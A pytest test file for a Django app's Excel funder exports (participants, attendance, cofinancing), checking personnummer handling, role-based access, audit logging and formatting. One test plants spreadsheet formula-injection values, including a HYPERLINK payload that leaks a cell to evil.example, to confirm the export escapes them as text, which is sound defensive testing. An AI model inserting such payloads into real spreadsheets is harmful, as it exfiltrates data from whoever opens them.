"""The funder's exports: content, who may take them, and the audit trail."""

import datetime as dt
import io
from decimal import Decimal

import pytest
from django.core.management import CommandError, call_command
from django.utils import timezone
from openpyxl import load_workbook

from grannar.core.crypto import encrypt_text
from grannar.core.models import AuditEvent
from grannar.core.spreadsheets import DATE, DATE_TIME, INTEGER, MONEY, MONEY_ORE
from grannar.reporting.counting import figures
from grannar.reporting.esf import EXPORTS
from grannar.training.facts import Scope
from grannar.training.models import MonthlyAttestation
from tests.factories import sign_in

PNR = "198001012385"


@pytest.fixture
def with_personnummer(populated):
    person = populated["people"][0]
    person.personnummer_encrypted = encrypt_text(PNR)
    person.save()
    return populated


def download(client, user, code, kind):
    sign_in(client, user)
    response = client.get(f"/reporting/{code}/esf/{kind}.xlsx")
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment")
    return load_workbook(io.BytesIO(response.content))


def values(book) -> list[tuple]:
    """Every row of the data sheets (the first sheet says what the file is)."""
    return [row for sheet in book.worksheets[1:] for row in sheet.iter_rows(values_only=True)]


def about(book) -> dict:
    return dict(book.worksheets[0].iter_rows(min_row=2, values_only=True))


def column(sheet, title: str) -> list:
    """The cells below the header `title`."""
    header = [cell.value for cell in sheet[1]]
    index = header.index(title) + 1
    return [
        row[0] for row in sheet.iter_rows(min_row=2, min_col=index, max_col=index, values_only=True)
    ]


def test_scb_export_carries_personnummer_and_entry_exit_dates(with_personnummer, client):
    book = download(
        client,
        with_personnummer["users"]["auditor"],
        with_personnummer["programme"].code,
        "participants",
    )
    rows = list(book.worksheets[1].iter_rows(values_only=True))
    header, body = rows[0], rows[1:]
    assert len(body) == 15  # participants only: the support resource is not in it
    first = next(row for row in body if row[1] == PNR)
    assert first[header.index("Startdatum")].date().isoformat() == "2024-03-04"
    assert first[header.index("Slutdatum")].date().isoformat() == "2025-02-03"
    by_month = list(book.worksheets[2].iter_rows(values_only=True))
    assert sum(row[1] for row in by_month[1:]) == 15
    assert sum(row[2] for row in by_month[1:]) == 15


@pytest.mark.parametrize("kind", ["attendance", "cofinancing"])
def test_other_exports_never_carry_personnummer(with_personnummer, client, kind):
    book = download(
        client, with_personnummer["users"]["admin"], with_personnummer["programme"].code, kind
    )
    assert PNR not in repr(values(book))


def test_attendance_export_per_participant_and_month_with_attestation(populated, client):
    person = populated["people"][0]  # 2.5 h on 2024-03-04, 3 h on 2025-02-03
    MonthlyAttestation.objects.create(
        person=person,
        programme=populated["programme"],
        month="2024-03-01",
        hours=Decimal(2),
        statement="Jag intygar …",
    )
    book = download(client, populated["users"]["admin"], populated["programme"].code, "attendance")
    rows = [row for row in values(book)[1:] if row[2] == person.last_name]
    assert [(row[0], row[7], row[8], row[9]) for row in rows] == [
        ("2024-03", 1, 2, 2),
        ("2025-02", 1, 3, None),
    ]


def test_cofinancing_export_adds_up_to_the_figures(populated, client):
    book = download(client, populated["users"]["admin"], populated["programme"].code, "cofinancing")
    rows = values(book)
    total = rows[-1]
    result = figures(Scope(programme=populated["programme"]))
    assert total[0] == "Summa"
    assert total[5] == result.attended_hours
    assert Decimal(str(total[7])) == result.cofinancing_sek


@pytest.mark.parametrize("kind", sorted(EXPORTS))
def test_every_export_is_audit_logged_without_personal_data(populated, client, kind):
    user = populated["users"]["auditor"]
    download(client, user, populated["programme"].code, kind)
    event = AuditEvent.objects.get(action=f"reporting.esf_{kind}.exported")
    assert event.actor_id == user.pk
    assert event.data["rows"] > 0


@pytest.mark.parametrize("role", ["coordinator", "evaluator", "trainer", "participant"])
def test_exports_are_refused_to_other_roles(populated, client, role):
    sign_in(client, populated["users"][role])
    response = client.get(f"/reporting/{populated['programme'].code}/esf/participants.xlsx")
    assert response.status_code == 403
    assert not AuditEvent.objects.filter(action__startswith="reporting.esf").exists()


def test_unknown_export_is_not_found(populated, client):
    sign_in(client, populated["users"]["admin"])
    assert client.get(f"/reporting/{populated['programme'].code}/esf/other.xlsx").status_code == 404


HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&B2,"Klicka")'


def cells(book) -> list:
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


@pytest.mark.parametrize("kind", sorted(EXPORTS))
def test_hostile_names_and_codes_come_out_as_text(with_personnummer, client, kind):
    """A name from a coordinator or an import, or a category code, never becomes a formula."""
    person = with_personnummer["people"][0]
    person.first_name = HOSTILE_NAME
    person.last_name = "@SUM(A1:A9)"
    person.save()
    person.workplace.name = "-2+3"
    person.workplace.save()
    person.staff_category.name = "+Socialsekreterare"
    person.staff_category.save()
    book = download(
        client, with_personnummer["users"]["admin"], with_personnummer["programme"].code, kind
    )
    every = cells(book)
    assert not [cell.coordinate for cell in every if cell.data_type == "f"]
    texts = {cell.value for cell in every if cell.data_type == "s"}
    expected = {
        "participants": {"'" + HOSTILE_NAME, "'@SUM(A1:A9)", "'+Socialsekreterare"},
        "attendance": {"'" + HOSTILE_NAME, "'@SUM(A1:A9)", "'-2+3", "'+Socialsekreterare"},
        "cofinancing": {"'+Socialsekreterare"},
    }[kind]
    assert expected <= texts
    assert HOSTILE_NAME not in texts
    numbers = [c.value for c in every if c.data_type == "n" and c.value is not None]
    assert numbers
    assert all(isinstance(value, int | float) for value in numbers)


# The workbook as people read it ----------------------------------------------------------

ALL_KINDS = sorted(EXPORTS)


@pytest.mark.parametrize("kind", ALL_KINDS)
def test_every_export_says_what_it_is_and_has_filters_frozen_headers_and_widths(
    populated, client, kind
):
    admin = populated["users"]["admin"]
    book = download(client, admin, populated["programme"].code, kind)
    info = about(book)
    assert info["Program"] == "Nya GRannar (nya-grannar)"
    assert info["Period"] == "2016-04-01 – 2018-12-31"
    assert info["Skapad av"] == admin.email  # the account has no person: its address
    assert abs(info["Skapad"] - dt.datetime.now()) < dt.timedelta(days=1)
    assert book.worksheets[0]["B5"].number_format == DATE_TIME
    for sheet in book.worksheets:
        assert sheet.auto_filter.ref.startswith("A1:")
        assert sheet.auto_filter.ref.endswith(str(sheet.max_row))
        assert sheet.freeze_panes == "A2"
        assert all(cell.font.bold for cell in sheet[1])
        for cells in sheet.iter_cols():
            texts = [len(str(c.value)) for c in cells if isinstance(c.value, str)]
            width = sheet.column_dimensions[cells[0].column_letter].width
            assert width >= min(max(texts, default=0), 57), (sheet.title, cells[0].column_letter)


def test_participants_carry_labels_and_the_employers_organisation_number(populated, client):
    own, other = populated["own"], populated["other"]
    own.organisation_number = "212000-1256"
    own.save()
    private = populated["people"][1].workplace
    private.organisation_number = "556036-0793"
    private.save()
    book = download(
        client, populated["users"]["auditor"], populated["programme"].code, "participants"
    )
    sheet = book.worksheets[1]
    assert sheet.title == "Deltagare"
    names = column(sheet, "Efternamn")
    by_name = dict(
        zip(
            names,
            zip(
                column(sheet, "Arbetsgivarens organisationsnummer"),
                column(sheet, "Organisationsnumret från"),
                column(sheet, "Kommun"),
                column(sheet, "Kommunkod"),
                strict=True,
            ),
            strict=True,
        )
    )
    people = populated["people"]
    assert by_name[people[0].last_name] == ("212000-1256", "Kommun", "Mölndal", own.code)
    assert by_name[people[1].last_name] == ("556036-0793", "Arbetsplats", "Mölndal", own.code)
    assert by_name[people[14].last_name] == (None, "Saknas", "Partille", other.code)
    assert set(column(sheet, "Kön")) == {"Kvinna", "Man", "Annat"}
    assert set(column(sheet, "Personalkategori")) == {
        people[0].staff_category.name,
        people[14].staff_category.name,
    }
    assert "okand" not in repr(values(book))
    assert {cell.number_format for cell in sheet["O"][1:] + sheet["P"][1:]} == {DATE}
    info = about(book)
    assert info["Deltagare"] == 15
    assert info["Deltagare utan organisationsnummer för arbetsgivaren"] == 3
    assert book.worksheets[0].cell(book.worksheets[0].max_row, 2).number_format == INTEGER


def test_an_unknown_age_band_is_a_word(populated, client):
    person = populated["people"][0]
    person.birth_year = None
    person.save()
    book = download(
        client, populated["users"]["admin"], populated["programme"].code, "participants"
    )
    bands = dict(
        zip(
            column(book.worksheets[1], "Efternamn"),
            column(book.worksheets[1], "Åldersgrupp"),
            strict=True,
        )
    )
    assert bands[person.last_name] == "Okänt"
    assert bands[populated["people"][1].last_name] == "25-54"


def test_attendance_and_cofinancing_are_numbers_with_formats(populated, client):
    code = populated["programme"].code
    admin = populated["users"]["admin"]
    attendance = download(client, admin, code, "attendance").worksheets[1]
    hours = column(attendance, "Hela timmar")
    assert all(isinstance(value, int) for value in hours)
    assert {cell.number_format for cell in attendance["I"][1:]} == {INTEGER}
    assert set(column(attendance, "Kommun")) == {"Mölndal", "Partille"}

    cofinancing = download(client, admin, code, "cofinancing").worksheets[1]
    rows = list(cofinancing.iter_rows(min_row=2))
    amounts = [row[7] for row in rows]
    assert all(cell.data_type == "n" and cell.number_format == MONEY for cell in amounts)
    rates = [row[6] for row in rows[:-1]]
    assert all(cell.data_type == "n" and cell.number_format == MONEY_ORE for cell in rates)
    assert {row[2].value for row in rows[:-1]} == {"Mölndal", "Partille"}
    assert "socialsekreterare" not in {row[3].value for row in rows}
    total = sum(Decimal(str(cell.value)) for cell in amounts[:-1])
    assert Decimal(str(amounts[-1].value)) == total


@pytest.mark.parametrize(
    ("kind", "ascii_name", "real_name"),
    [
        ("participants", "deltagare", None),
        ("attendance", "narvaro", "n%C3%A4rvaro"),
        ("cofinancing", "medfinansiering", None),
    ],
)
def test_files_have_swedish_names(populated, client, kind, ascii_name, real_name):
    sign_in(client, populated["users"]["admin"])
    response = client.get(f"/reporting/nya-grannar/esf/{kind}.xlsx")
    today = timezone.localdate().isoformat()
    disposition = response["Content-Disposition"]
    assert disposition.startswith(f'attachment; filename="{ascii_name}-nya-grannar-{today}.xlsx"')
    if real_name:
        assert disposition.endswith(f"filename*=UTF-8''{real_name}-nya-grannar-{today}.xlsx")
    else:
        assert "filename*" not in disposition


# The same files from the command line -------------------------------------------------------


def test_report_esf_writes_the_file_and_logs_it(populated, tmp_path):
    output = tmp_path / "deltagare.xlsx"
    call_command(
        "report",
        "esf",
        "--programme",
        "nya-grannar",
        "--kind",
        "participants",
        "--output",
        str(output),
        stderr=io.StringIO(),
    )
    book = load_workbook(output)
    assert len(list(book.worksheets[1].iter_rows())) == 16
    assert about(book)["Skapad av"].startswith("grannar report (")
    event = AuditEvent.objects.get(action="reporting.esf_participants.exported")
    assert event.actor_id is None
    assert event.data == {"rows": 15}


def test_report_esf_takes_one_month(populated, tmp_path):
    output = tmp_path / "narvaro.xlsx"
    call_command(
        "report",
        "esf",
        "--programme",
        "nya-grannar",
        "--kind",
        "attendance",
        "--month",
        "2024-03",
        "--output",
        str(output),
        stderr=io.StringIO(),
    )
    book = load_workbook(output)
    assert set(column(book.worksheets[1], "Månad")) == {"2024-03"}
    assert about(book)["Period"] == "2024-03"
    participants = tmp_path / "deltagare.xlsx"
    call_command(
        "report",
        "esf",
        "--programme",
        "nya-grannar",
        "--kind",
        "participants",
        "--month",
        "2025-02",
        "--output",
        str(participants),
        stderr=io.StringIO(),
    )
    # Four people from Mölndal and three from Partille took part in February 2025.
    assert len(column(load_workbook(participants).worksheets[1], "Efternamn")) == 7
    event = AuditEvent.objects.filter(action="reporting.esf_attendance.exported").get()
    assert event.data["month"] == "2024-03"


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["--kind", "attendance"], "--output"),
        (["--output", "x.xlsx"], "--kind"),
        (["--kind", "attendance", "--month", "2024-13", "--output", "x.xlsx"], "ÅÅÅÅ-MM"),
        (["--kind", "attendance", "--format", "pdf", "--output", "x.xlsx"], "inte som pdf"),
        (["--kind", "attendance", "--output", "/no/such/folder/x.xlsx"], "befintlig mapp"),
    ],
)
def test_report_esf_refuses_what_it_cannot_do(populated, args, message):
    with pytest.raises(CommandError, match=message):
        call_command("report", "esf", "--programme", "nya-grannar", *args)
    assert not AuditEvent.objects.filter(action__startswith="reporting.esf").exists()


def test_report_esf_refuses_an_unknown_programme(populated, tmp_path):
    with pytest.raises(CommandError, match="okänd"):
        call_command(
            "report",
            "esf",
            "--programme",
            "okänd",
            "--kind",
            "attendance",
            "--output",
            str(tmp_path / "x.xlsx"),
        )
    assert not (tmp_path / "x.xlsx").exists()


def test_the_file_names_who_made_it_by_their_name(populated, client):
    admin = populated["users"]["admin"]
    admin.person = populated["people"][0]
    admin.save()
    book = download(client, admin, populated["programme"].code, "cofinancing")
    assert about(book)["Skapad av"] == f"Test {populated['people'][0].last_name}"


def test_the_web_export_takes_one_month(populated, client):
    sign_in(client, populated["users"]["auditor"])
    response = client.get("/reporting/nya-grannar/esf/cofinancing.xlsx?month=2024-09")
    assert response.status_code == 200
    assert response["Content-Disposition"] == (
        'attachment; filename="medfinansiering-nya-grannar-2024-09.xlsx"'
    )
    book = load_workbook(io.BytesIO(response.content))
    assert about(book)["Period"] == "2024-09"
    assert set(column(book.worksheets[1], "Månad")) == {"2024-09", "Summa"}
    event = AuditEvent.objects.get(action="reporting.esf_cofinancing.exported")
    assert event.data["month"] == "2024-09"


def test_a_bad_month_on_the_web_says_how_to_write_it_and_exports_nothing(populated, client):
    sign_in(client, populated["users"]["admin"])
    response = client.get("/reporting/nya-grannar/esf/participants.xlsx?month=sept", follow=True)
    assert response.redirect_chain == [("/reporting/nya-grannar/", 302)]
    assert "Månad: sept är ingen månad; skriv den som ÅÅÅÅ-MM" in response.content.decode()
    assert not AuditEvent.objects.filter(action__startswith="reporting.esf").exists()


def test_the_dashboard_offers_each_export_for_one_month(populated, client):
    sign_in(client, populated["users"]["auditor"])
    html = client.get("/reporting/nya-grannar/").content.decode()
    for kind in EXPORTS:
        assert f'action="/reporting/nya-grannar/esf/{kind}.xlsx"' in html
        assert f'<label for="month-{kind}">En månad (ÅÅÅÅ-MM)</label>' in html
